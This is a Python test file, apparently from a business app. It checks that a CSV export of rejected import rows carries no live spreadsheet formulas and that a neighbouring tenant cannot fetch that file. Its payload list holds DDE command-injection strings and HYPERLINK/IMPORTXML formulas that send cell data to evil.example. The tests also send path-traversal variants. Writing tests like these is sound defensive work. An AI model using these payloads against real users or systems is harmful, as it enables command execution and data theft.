"""Files that people take away: a neighbour's is not found, and no cell of a text comes alive in a spreadsheet."""

from __future__ import annotations

import csv
import io
from typing import Any
from uuid import UUID

import pytest

from digiboost.kernel.jobs import worker_engine
from digiboost.kernel.outbox import deliver
from tests.factories.people import open_company
from tests.invariants.kit.database import transaction

STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example/?x=\"&A1,\"ouvrir\")", "SUM(1+9)*cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
)  # fmt: skip
PAYLOADS = [start + body for start in STARTS for body in BODIES]
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "|", "%")


def work_off(tenant_id: str) -> None:
    """What the worker would do with this company's events."""
    with transaction("worker") as connection:
        waiting = connection.execute(
            "SELECT event_id, reaction FROM deliveries WHERE company_id = %s AND state = 'waiting'", (tenant_id,)
        ).fetchall()
    for event_id, reaction in waiting:
        assert deliver(worker_engine(), event_id, UUID(tenant_id), reaction)


@pytest.fixture(scope="module")
def rejected(client: Any) -> Any:
    """The owner, and an import whose every row is refused, with a formula in each of its texts."""
    assert len(PAYLOADS) >= 50
    owner = open_company(client)
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["Code", "Désignation", "Description", "=Prix de vente"])
    for payload in PAYLOADS:
        writer.writerow([payload, payload, payload, "pas un prix " + payload])
    answer = owner.post(
        "/imports", files={"file": ("=1+1.csv", out.getvalue().encode(), "text/csv")}, data={"kind": "products"}
    )
    assert answer.status_code == 201, answer.text
    made = answer.json()
    work_off(owner.tenant_id)
    mapping = {"code": "Code", "name": "Désignation", "description": "Description", "sale_price": "=Prix de vente"}
    known = {field["name"] for field in made.get("fields", [])} or set(mapping)
    answer = owner.put(f"/imports/{made['id']}/mapping", {
        "mapping": {field: column for field, column in mapping.items() if field in known}, "options": {}})  # fmt: skip
    assert answer.status_code == 200, answer.text
    work_off(owner.tenant_id)
    checked = owner.get(f"/imports/{made['id']}").json()
    assert (checked["status"], checked["rejected_rows"]) == ("checked", len(PAYLOADS)), checked["problems"]
    return owner, made["id"]


def test_no_cell_of_the_rejected_rows_is_a_formula(rejected: Any) -> None:
    owner, made = rejected
    answer = owner.get(f"/imports/{made}/rejected.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "=1+1" not in answer.headers["content-disposition"].split("filename", 1)[1][:3]
    assert answer.headers["x-content-type-options"] == "nosniff"
    text = answer.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    if len(rows[0]) == 1:
        rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(PAYLOADS) + 1
    assert len({len(row) for row in rows}) == 1, "no payload made a cell of its own"
    live = [cell for row in rows for cell in row if cell.lstrip(" ").startswith(LIVE) and not _is_number(cell)]
    assert live == []
    # And nothing was lost: the person finds what they wrote.
    for row, payload in zip(rows[1:], PAYLOADS, strict=True):
        assert any(payload.strip() in cell for cell in row)


def test_a_neighbour_finds_no_file(client: Any, rejected: Any) -> None:
    _, made = rejected
    neighbour = open_company(client)
    hidden = neighbour.get(f"/imports/{made}/rejected.csv")
    missing = neighbour.get("/imports/0190aaaa-0000-7000-8000-000000000000/rejected.csv")
    assert (hidden.status_code, hidden.json()) == (404, missing.json())
    assert client.get(f"/api/v1/imports/{made}/rejected.csv").status_code == 401
    for bent in ("../" + made, made + "%2f..%2f" + made, made + "%00"):
        assert neighbour.get(f"/imports/{bent}/rejected.csv").status_code in (404, 422)


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True
